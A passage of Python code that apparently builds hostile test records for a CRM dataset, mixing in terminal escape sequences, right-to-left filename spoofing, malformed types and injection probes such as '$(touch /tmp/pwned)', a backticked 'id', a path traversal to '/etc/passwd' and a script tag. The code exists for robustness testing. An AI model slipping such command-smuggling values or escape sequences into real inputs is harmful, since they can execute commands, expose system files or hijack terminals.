                  "\U0001F3F3\ufe0f\u200d\U0001F308",
                  "\U0001F469\U0001F3FD\u200d\U0001F4BB",
                  "\u2764\ufe0f\u200d\U0001F525"),
    "combining": ("Z\u0338\u0322\u031ba\u0335\u034e\u035dl\u0336\u0333\u030ag\u0337\u0331\u0308o\u0334\u031f\u0346",
                  "e\u0301\u0301\u0301\u0301", "a\u20dd"),
    "rtl": ("\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd",
            "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
            "invoice\u202efdp.exe\u202c", "abc\u2067\u05e9\u05dc\u05d5\u05dd\u2069def"),
}
_STRING_KINDS = tuple(HOSTILE_SAMPLES)
_SHAPE_KINDS = ("huge_details", "all_null", "number_for_string", "string_for_number",
                "object_for_list", "list_for_object")
# Extra oddities rotated onto hostile records (not separately tested kinds).
_EXTRAS = ("nested_nulls", "bad_numbers", "bad_custom_fields", "long_line",
           "format_strings", "empty_strings", "dangling_refs", "hostile_lookups")


def _huge_details():
    para = ("## Section {n}\n\nLorem ipsum **dolor** sit amet, `code {n}` and a "
            "[link](https://evil.example/{n}) \x1b[31mred\x1b[0m \u202eevil\u202c "
            "\U0001F468\u200d\U0001F469\u200d\U0001F467 \u4e2d\u6587 "
            "e\u0301\u0301 " + "x" * 300 + "\n\n- item\n- item\n\n")
    parts = []
    size = 0
    n = 0
    while size < 102_400:
        p = para.format(n=n)
        parts.append(p)
        size += len(p)
        n += 1
    return "".join(parts)


class _Hostile:
    def __init__(self, builder):
        self.b = builder
        self.ds = builder.ds
        self.rng = random.Random("hostile-%r" % (builder.seed,))
        self.huge = _huge_details()

    def apply(self):
        ds = self.ds
        ds.contact_types.extend([{"id": 451496, "name": "\x1b[31mVIP\x1b[0m \x1b]0;pwned\x07"},
                                 {"id": 451497, "name": "\u9867\u5ba2 \U0001F451"}])
        ds.customer_sources.extend([{"id": 331250, "name": _OSC52 + "Webinar"},
                                    {"id": 331251, "name": "\u0625\u062d\u0627\u0644\u0629 (Referral)"}])
        ds.lead_statuses.extend([{"id": 208236, "name": "\x1b[2J\x1b[HNurture", "order": 5,
                                  "is_default": False},
                                 {"id": 208237, "name": HOSTILE_SAMPLES["combining"][0], "order": 6,
                                  "is_default": False}])
        ds.loss_reasons.extend([{"id": 402090, "name": "\x9b2J\x07Budget\x00cut"},
                                {"id": 402091, "name": "\U0001F4B8 \u0645\u0627\u0644"}])
        self.kinds = _STRING_KINDS + _SHAPE_KINDS
        for entity in ENTITIES:
            self.mutate_entity(entity)
        self.mutate_activities()

    def pick(self, ids):
        n = len(ids)
        count = min(n, max(len(self.kinds) + len(_EXTRAS), n // 25))
        return self.rng.sample(ids, count)

    def mutate_entity(self, entity):
        recs = self.ds.records[entity]
        ids = [rid for rid in recs]
        chosen = self.pick(ids)
        huge_left = 2
        for k, rid in enumerate(chosen):
            rec = recs[rid]
            kind = self.kinds[k % len(self.kinds)]
            if kind == "huge_details":
                if huge_left <= 0:
                    kind = _STRING_KINDS[k % len(_STRING_KINDS)]
                else:
                    huge_left -= 1
            # never mutate shared nested containers in place
            rec["custom_fields"] = copy.deepcopy(rec["custom_fields"])
            if kind != "all_null":
                self.apply_extra(entity, rec, _EXTRAS[k % len(_EXTRAS)], k)
            self.apply_kind(entity, rec, kind, k)

    def sample(self, kind, k):
        s = HOSTILE_SAMPLES[kind]
        return s[k % len(s)]

    def apply_kind(self, entity, rec, kind, k):
        keys = RECORD_KEYS[entity]
        if kind in HOSTILE_SAMPLES:
            s = self.sample(kind, k)
            s2 = self.sample(kind, k + 1)
            name = rec.get("name")
            base = name if isinstance(name, str) else "Record"
            rec["name"] = base[:30] + " " + s + " end"
            for key in ("title", "company_name", "details"):
                if key in keys and (isinstance(rec.get(key), str) or key == "title"):
                    rec[key] = (rec.get(key) or "")[:200] + s2
                    break
            addr = rec.get("address")
            if isinstance(addr, dict):
                rec["address"] = dict(addr, city=s + (addr.get("city") or ""),
                                      street=s2 + " 1")
            if "tags" in keys:
                rec["tags"] = [s, self.sample(kind, k + 2)]
            if "emails" in keys and isinstance(rec.get("emails"), list):
                rec["emails"] = [{"email": "user+%s@evil.example" % s, "category": "work"}]
            if "email" in keys:
                rec["email"] = {"email": "lead%s@evil.example" % s, "category": "work"}
            if "phone_numbers" in keys:
                rec["phone_numbers"] = [{"number": "+1 555 " + s, "category": s2}]
            cfs = rec.get("custom_fields")
            if isinstance(cfs, list):
                for c in cfs:
                    if isinstance(c, dict) and c.get("custom_field_definition_id") in (
                            4, 11, 100764, 103481):
                        c["value"] = s + " cf " + s2
        elif kind == "huge_details":
            rec["details"] = self.huge
        elif kind == "all_null":
            for key in keys:
                if key != "id":
                    rec[key] = None
        elif kind == "number_for_string":
            rec["name"] = 1234567 if k % 2 else 3.14159
            for key, v in (("title", 42), ("company_name", 0), ("details", 1e21),
                           ("status", 1), ("priority", 2), ("email_domain", 404),
                           ("close_date", 20240131)):
                if key in keys:
                    rec[key] = v
            if "emails" in keys:
                rec["emails"] = [{"email": 12345, "category": 7}]
            if "email" in keys:
                rec["email"] = {"email": 12345, "category": None}
            if isinstance(rec.get("address"), dict):
                rec["address"] = dict(rec["address"], postal_code=94105, city=0)
        elif kind == "string_for_number":
            for key, v in (("monetary_value", "12,500.00 USD"), ("interaction_count", "7"),
                           ("date_created", "2024-01-01T00:00:00Z"), ("win_probability", "50%"),
                           ("date_modified", "yesterday"), ("due_date", "tomorrow"),
                           ("assignee_id", str(JOHN_DOE_ID)), ("date_last_contacted", ""),
                           ("converted_value", "n/a"), ("completed_date", "soon")):
                if key in keys:
                    rec[key] = v
            cfs = rec.get("custom_fields")
            if isinstance(cfs, list):
                for c in cfs:
                    if isinstance(c, dict) and c.get("custom_field_definition_id") in (
                            5, 6, 9, 10):
                        c["value"] = "12.5"
        elif kind == "object_for_list":
            for key in ("tags", "emails", "phone_numbers", "socials", "websites",
                        "custom_fields", "leads_converted_from"):
                if key in keys:
                    rec[key] = {"0": "vip", "email": "x@evil.example", "category": "work",
                                "custom_field_definition_id": 3, "value": 167801}
        elif kind == "list_for_object":
            for key, v in (("address", ["221B Baker Street", "London", None]),
                           ("related_resource", [1, "company"]),
                           ("email", [{"email": "a@evil.example", "category": "work"}])):
                if key in keys:
                    rec[key] = v
            rec["tags"] = [["nested", "list"], {"name": "obj"}]
            cfs = rec.get("custom_fields")
            if isinstance(cfs, list):
                rec["custom_fields"] = [[c.get("custom_field_definition_id"), c.get("value")]
                                        if isinstance(c, dict) else c for c in cfs]

    def apply_extra(self, entity, rec, extra, k):
        keys = RECORD_KEYS[entity]
        if extra == "nested_nulls":
            if "tags" in keys:
                rec["tags"] = [None, 5, "ok", ""]
            if "emails" in keys:
                rec["emails"] = [None, {"email": None, "category": None}]
            if "phone_numbers" in keys:
                rec["phone_numbers"] = [{"number": None, "category": None}]
            if "socials" in keys:
                rec["socials"] = [{"url": None, "category": "linkedin"}]
            cfs = rec.get("custom_fields")
            if isinstance(cfs, list):
                rec["custom_fields"] = [None] + cfs + [{"custom_field_definition_id": None,
                                                        "value": None}]
            if entity in ("projects", "tasks"):
                rec["related_resource"] = {"id": None, "type": None}
        elif extra == "bad_numbers":
            for key, v in (("monetary_value", 10 ** 30), ("interaction_count", -5),
                           ("date_created", -1), ("date_modified", 253402300800),
                           ("win_probability", 250), ("due_date", 2 ** 63),
                           ("date_last_contacted", 1.5e9 + 0.25), ("converted_value", 1e308),
                           ("reminder_date", 0)):
                if key in keys:
                    rec[key] = v
        elif extra == "bad_custom_fields":
            rec["custom_fields"] = [
                {"custom_field_definition_id": 3, "value": 999999999},       # unknown option
                {"custom_field_definition_id": 12, "value": "8,9"},          # str, not list
                {"custom_field_definition_id": 6, "value": "2024-02-30"},    # str date
                {"custom_field_definition_id": 7, "value": "yes"},
                {"custom_field_definition_id": 9, "value": -12.5},
                {"custom_field_definition_id": 10, "value": "\u20ac5"},
                {"custom_field_definition_id": 424242, "value": "no such field"},
                {"custom_field_definition_id": _HOSTILE_CUSTOM_FIELD[0], "value": 167899},
                {"value": "missing definition id"},
            ]
        elif extra == "long_line":
            word = "W" * 5000
            rec["name"] = word
            if "title" in keys:
                rec["title"] = "x" * 300 + " " + "y" * 300
        elif extra == "format_strings":
            rec["name"] = "%s%s%s%n%x%p %d{0}{{}} $(touch /tmp/pwned) `id` ../../etc/passwd"
            if "details" in keys:
                rec["details"] = "<script>alert(1)</script> \\ \" ' %n\n\t\ttabbed\n"
        elif extra == "empty_strings":
            for key in ("name", "first_name", "last_name", "title", "company_name",
                        "details", "email_domain", "close_date", "status", "priority"):
                if key in keys:
                    rec[key] = ""
        elif extra == "dangling_refs":
            for key, v in (("assignee_id", 999999999), ("contact_type_id", 999999),
                           ("customer_source_id", 999998), ("company_id", 999999997),
                           ("primary_contact_id", 999999996), ("loss_reason_id", 999995),
                           ("custom_activity_type_id", 999994)):
                if key in keys:
                    rec[key] = v
            if entity in ("projects", "tasks"):
                rec["related_resource"] = {"id": 999999993, "type": "spaceship"}
        elif extra == "hostile_lookups":
            for key, v in (("assignee_id", _HOSTILE_USERS[k % 3][0]),
                           ("contact_type_id", 451496 + k % 2),
                           ("customer_source_id", 331250 + k % 2),
                           ("loss_reason_id", 402090 + k % 2)):
                if key in keys:
                    rec[key] = v
            if "status_id" in keys and entity == "leads":
                st = self.ds.lead_statuses[-1 - k % 2]
                rec["status_id"], rec["status"] = st["id"], st["name"]
            if entity == "opportunities":
                pid, _, rev, stages = _HOSTILE_PIPELINE
                rec["pipeline_id"], rec["pipeline_is_revenue"] = pid, rev
                rec["pipeline_stage_id"] = stages[k % 3][0]
            if "tags" in keys:
                rec["tags"] = list(_HOSTILE_TAGS[k % 4: k % 4 + 3])
            cfs = rec.get("custom_fields")
            if isinstance(cfs, list):
                rec["custom_fields"] = cfs + [{"custom_field_definition_id": _HOSTILE_CUSTOM_FIELD[0],
                                               "value": 167898}]

    def mutate_activities(self):
        acts = self.ds.activities
        ids = list(acts)
        chosen = self.pick(ids)
        for k, aid in enumerate(chosen):
            a = acts[aid]
            kind = self.kinds[k % len(self.kinds)]
            if kind in HOSTILE_SAMPLES:
                a["details"] = "Call notes " + self.sample(kind, k) + " " + self.sample(kind, k + 1)
            elif kind == "huge_details":
                a["details"] = self.huge
            elif kind == "all_null":
                for key in ACTIVITY_KEYS:
                    if key not in ("id", "parent", "type"):   # parent/type route the activity
                        a[key] = None
            elif kind == "number_for_string":
                a["details"] = 404
            elif kind == "string_for_number":
                a["activity_date"] = "2024-05-05"
                a["user_id"] = str(ME_ID)
            elif kind == "object_for_list":
                a["old_value"] = {"id": [1, 2], "name": {"nested": True}}
            elif kind == "list_for_object":
                a["old_value"] = ["Qualified", 987790]
                a["new_value"] = [None]
